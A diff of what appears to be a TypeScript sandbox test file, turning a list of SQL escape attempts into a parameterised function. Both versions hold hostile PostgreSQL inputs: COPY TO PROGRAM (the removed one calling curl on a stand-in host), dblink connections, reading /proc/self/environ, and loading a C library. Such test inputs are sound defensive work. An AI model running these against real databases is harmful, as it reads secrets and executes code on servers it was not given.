@@ -55,14 +55,21 @@ print('all tried')
 `;
 }
 
-/** SQL that reaches outside on a server whose owner runs it. */
-export const sqlAttempts: readonly string[] = [
-  `copy (select 1) to program 'curl https://escaped.example/program';`,
-  `create extension dblink; select dblink_connect('host=escaped.example');`,
-  `create extension postgres_fdw;`,
-  `select pg_read_file('/proc/self/environ');`,
-  `create function reach() returns void language c as '/tmp/reach.so', 'reach';`,
-];
+/**
+ * SQL that reaches outside on a server whose owner runs it.
+ *
+ * @param server how that server connects to itself
+ * @param library a library on its disk
+ */
+export function sqlAttempts(server: string, library: string): readonly string[] {
+  return [
+    `copy (select 1) to program 'cat > /dev/null';`,
+    `create extension dblink; select dblink_connect('${server}');`,
+    `create extension postgres_fdw;`,
+    `select pg_read_binary_file('/proc/self/environ');`,
+    `create function reach() returns void language c as '${library}', 'plpgsql_validator';`,
+  ];
+}
 
 /** Programs that never end or fill what they can: the name, the language, the code, how they end, and what is said. */
 export const endlessEngines: readonly (readonly [name: string, mode: 'python' | 'sql', code: string, status: string, said: RegExp])[] = [
